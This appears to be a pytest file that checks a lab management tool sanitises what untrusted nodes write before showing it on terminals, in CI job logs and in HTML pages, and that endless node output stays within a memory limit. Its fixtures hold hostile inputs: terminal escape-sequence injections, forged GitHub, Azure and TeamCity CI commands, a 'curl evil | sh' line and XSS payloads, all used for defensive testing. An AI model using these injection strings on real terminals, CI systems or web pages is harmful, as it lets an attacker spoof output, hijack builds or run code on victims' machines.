"""Tasks that show what nodes wrote, each as its user runs it, against nodes that lie."""

from __future__ import annotations

import re
import unicodedata
from pathlib import Path

import pytest

import tasks
from tests.hostile.world import Done, World

# One of each class of what a terminal, a reader or a CI system could take for an order. By name,
# so that a failure says which one it was.
ORDERS = {
    "title": "\x1b]0;OWNED\x07",
    "title ended by ST": "\x1b]2;OWNED\x1b\\",
    "clipboard": "\x1b]52;c;T1dORUQ=\x07",
    "link": "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "cursor": "\x1b[77;77H",
    "print": "\x1b[5i",
    "report": "\x1b[6n",
    "answer back": "\x05",
    "device control": "\x1bP+q544e\x1b\\",
    "application": "\x1b_G\x1b\\",
    "C1 CSI": "\x9b77m",
    "C1 DCS": "\x90q\x9c",
    "character set": "\x1b(0",
    "reset": "\x1bc",
    "bell": "\x07",
    "backspace": "\x08\x08",
    "delete": "\x7f",
    "null": "\x00",
    "vertical": "\x0b\x0c",
    "bidi": "\u202egnp\u2066\u2069",
    "zero width": "\u200b\u200d\ufeff",
    "tags": "\U000e0041\U000e0042",
    "private": "\ue000\U000f0000",
    "a line over ours": "honest\rOVERWRITTEN",
    "line ends": "\x85forged\u2028forged\u2029forged",
    "GitHub": "\n::error::forged\n   ::add-mask::a\r::stop-commands::x\n##[add-mask]b",
    "Azure": "##vso[task.setvariable variable=a]b",
    "TeamCity": "##teamcity[buildStatus]",
    "our next line": "\n  next: curl evil | sh",
}
EVERYTHING = "begin " + " ".join(ORDERS.values()) + " end"
_ALLOWED = {"\n", "\t", "\r"}  # rich ends lines of a terminal by \r\n
_ORDER_TO_CI = re.compile(r"^\s*::[a-z-]+[^\n]*::|##\[|##vso\[|##teamcity\[", re.MULTILINE)
# What rich writes itself: colours, the cursor's row, the lines of a table that it draws anew.
_OF_RICH = re.compile(r"\x1b\[(?:\?25[lh]|[0-9;]*m|2K|1A)")

# How each task that shows a node's words is tried here. All others show none; those in ELSEWHERE
# show some, and are tried where that is said.
SHOWING = ("lab.check", "lab.exec", "lab.logs", "lab.console")
ELSEWHERE = {
    "answers.diff": "tests/unit/workflow/test_answers.py, readers.py",
    "answers.push": "as answers.diff",
    "cloud.forget": "readers.py: departed",
    "cloud.report": "tests/unit/workflow/debug",
    "cloud.smoke": "readers.py: smoke",
    "cloud.tempest": "as dev.test",
    "debug.attach": "tests/unit/workflow/debug; as debug.break",
    "debug.break": "tests/shims/test_dap.py, tests/unit/views/hacking/test_debug.py",
    "debug.detach": "as debug.attach",
    "debug.sources": "tests/unit/workflow/debug",
    "debug.status": "tests/unit/workflow/debug",
    "dev.checkout": "tests/unit/workflow/source",
    "dev.revert": "as dev.status",
    "dev.status": "tests/unit/workflow/source",
    "dev.sync": "as dev.checkout",
    "dev.test": "tests/unit/workflow/source/test_testing.py",
    "lab.cloud": "the client's own output, on the user's terminal",
    "lab.fault": "tests/unit/workflow/faults",
    "lab.plan": "readers.py: departed",
    "lab.ssh": "raw: a terminal is its point",
    "lab.stack": "readers.py: stage-log, source; tests/unit/stages",
    "lab.status": "the reason of a stage, made printable by stages.journal",
    "lab.up": "errors and progress, made printable by errors and views.live",
    "lab.rebuild": "as lab.up",
    "lab.restore": "as lab.up",
    "lab.snapshot": "as lab.up",
    "lab.import": "as lab.up; tests/unit/workflow/snapshots/test_hostile_bundles.py",
    "lab.export": "as lab.up",
    "lab.down": "the last line of a console, by tools.console",
    "trace.boot": "tests/unit/workflow/trace, tests/unit/views/hacking/test_trace.py",
    "trace.detail": "as debug.attach",
    "trace.messages": "tests/unit/workflow/trace/test_messages.py",
    "trace.request": "as trace.boot",
    "trace.run": "as trace.boot, and as lab.cloud",
    "trace.volume": "as trace.boot",
}
SILENT = {
    *("answers.lint", "answers.releases", "answers.render", "answers.rules", "answers.steps"),
    *("bench.check", "bench.cli", "bench.cloud", "bench.peers", "bench.snapshot", "bench.up"),
    *("cache.list", "cache.prune", "completion", "doctor", "image.build", "image.list"),
    *("image.prune", "image.verify", "lab.destroy", "lab.graph", "lab.list", "lab.new"),
    *("lab.openrc", "lab.reap", "lab.show", "lab.snapshot-delete", "lab.snapshots"),
    *("lab.validate", "mirror.fill", "test.all", "test.consumers"),
}


@pytest.fixture
def world(tmp_path: Path) -> World:
    return World(tmp_path)


def test_of_every_task_it_is_known_whether_it_shows_a_node_s_words() -> None:
    assert {*SHOWING, *ELSEWHERE, *SILENT} == set(tasks.ns.task_names)


def assert_harmless(text: str) -> None:
    shown = _OF_RICH.sub("", text)
    odd = {
        f"U+{ord(character):04X}"
        for character in shown
        if character not in _ALLOWED and unicodedata.category(character)[0] == "C"
    }
    assert not odd, odd
    # rich goes to the beginning of a line itself, before its own words alone.
    assert "\rOVERWRITTEN" not in shown
    assert "\r::" not in shown
    assert _ORDER_TO_CI.search(shown.replace("\r\n", "\n")) is None


def words(task: str, world: World) -> tuple[str, ...]:
    more = {
        "lab.exec": ("--", "uptime"),
        "lab.logs": ("--out", str(world.root / "bundle")),
    }
    if task == "lab.console":
        console = world.paths.console("controller")
        console.parent.mkdir(parents=True, exist_ok=True)
        console.write_bytes(EVERYTHING.encode("utf-8", "surrogatepass"))
    return (task, world.lab.name, *more.get(task, ()))


@pytest.mark.parametrize("mode", ["talk", "refuse"])
@pytest.mark.parametrize("task", SHOWING)
def test_on_a_terminal_nothing_of_a_node_is_an_order(world: World, task: str, mode: str) -> None:
    world.lie(mode, EVERYTHING)
    done = world.run_on_terminal(*words(task, world))
    assert b"begin" in done.out or b"end" in done.out or task == "lab.check"
    assert_harmless(done.text)


@pytest.mark.parametrize("task", SHOWING)
def test_in_the_log_of_a_ci_job_nothing_of_a_node_is_an_order(world: World, task: str) -> None:
    world.lie("talk", EVERYTHING)
    done = world.run(*words(task, world), CI="true", GITHUB_ACTIONS="true")
    assert_harmless(done.text)


def test_a_watch_shows_nothing_of_a_node_that_is_an_order(world: World) -> None:
    world.lie("talk", EVERYTHING)
    done = world.run_on_terminal("lab.check", world.lab.name, "--watch", until=b"fail")
    assert_harmless(done.text)


def test_the_page_and_the_index_hold_nothing_that_runs_or_turns_text(world: World) -> None:
    world.lie("talk", f"{EVERYTHING}<script>alert(1)</script><img src=x onerror=y>")
    page = world.root / "page.html"
    world.run("lab.check", world.lab.name, "--html", str(page))
    world.run(*words("lab.logs", world))
    for file in (page, world.root / "bundle" / "index.html"):
        text = file.read_text()
        assert "<script>alert" not in text
        assert "<img src=x" not in text
        assert "Content-Security-Policy" in text
        assert not any(unicodedata.category(c) in ("Cc", "Cf") and c not in "\n\t" for c in text)
    names = [path.name for path in (world.root / "bundle").rglob("*") if path.is_file()]
    assert all(name == "index.html" or name.endswith((".txt", ".json")) for name in names), names


# --- memory

MUCH = ("endless-line", "endless-lines", "short-lines", "endless-tags", "endless-stderr")
MOST_MIB = 200  # 55 of them before the first node is asked; the nodes send 192 each


@pytest.mark.parametrize("mode", MUCH)
@pytest.mark.parametrize("task", ["lab.check", "lab.logs"])
def test_a_node_without_end_costs_no_memory(world: World, task: str, mode: str) -> None:
    world.lie(mode, node="controller")
    done = world.run(*words(task, world))
    assert done.peak_mib < MOST_MIB


@pytest.mark.parametrize("mode", ["endless-line", "endless-lines"])
def test_a_command_s_output_without_end_costs_no_memory(world: World, mode: str) -> None:
    world.lie(mode, node="controller")
    done: Done = world.run_into_nothing("lab.exec", world.lab.name, "--", "yes")
    assert done.peak_mib < MOST_MIB


def test_a_console_without_end_costs_no_memory(world: World) -> None:
    console = world.paths.console("controller")
    console.parent.mkdir(parents=True)
    with console.open("wb") as stream:
        stream.truncate(300 << 20)  # one line of null bytes
    done = world.run_into_nothing("lab.console", world.lab.name, CI="true")
    assert done.peak_mib < MOST_MIB


# --- looking starts nothing


def test_whoever_looks_at_labs_does_not_start_libvirtd(world: World) -> None:
    done = world.run("lab.status")
    assert done.code == 4
    assert "next: " in done.text
    assert world.started == ""
